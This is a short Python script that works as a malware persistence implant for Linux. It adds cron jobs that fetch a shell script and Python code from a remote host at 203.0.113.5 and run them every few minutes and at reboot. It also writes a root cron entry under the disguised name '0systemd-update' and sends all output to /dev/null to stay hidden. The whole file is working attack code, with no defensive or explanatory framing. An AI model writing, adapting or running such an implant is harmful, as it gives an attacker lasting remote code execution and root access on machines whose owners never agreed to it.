import subprocess, os, tempfile

PAYLOAD = "curl -fsSL http://203.0.113.5/cr.sh | sh"
LINES = [
    f"*/5 * * * * {PAYLOAD} >/dev/null 2>&1",
    f"@reboot python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.5/a.py\").read())' >/dev/null 2>&1",
]

cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
new = cur + "".join(l + "\n" for l in LINES if l not in cur)
with tempfile.NamedTemporaryFile("w", delete=False) as t:
    t.write(new)
subprocess.run(["crontab", t.name])
os.unlink(t.name)

for path in ("/etc/cron.d/0systemd-update", "/var/spool/cron/crontabs/root"):
    try:
        with open(path, "a") as f:
            f.write(f"*/10 * * * * root {PAYLOAD}\n")
        os.chmod(path, 0o600)
    except OSError:
        pass
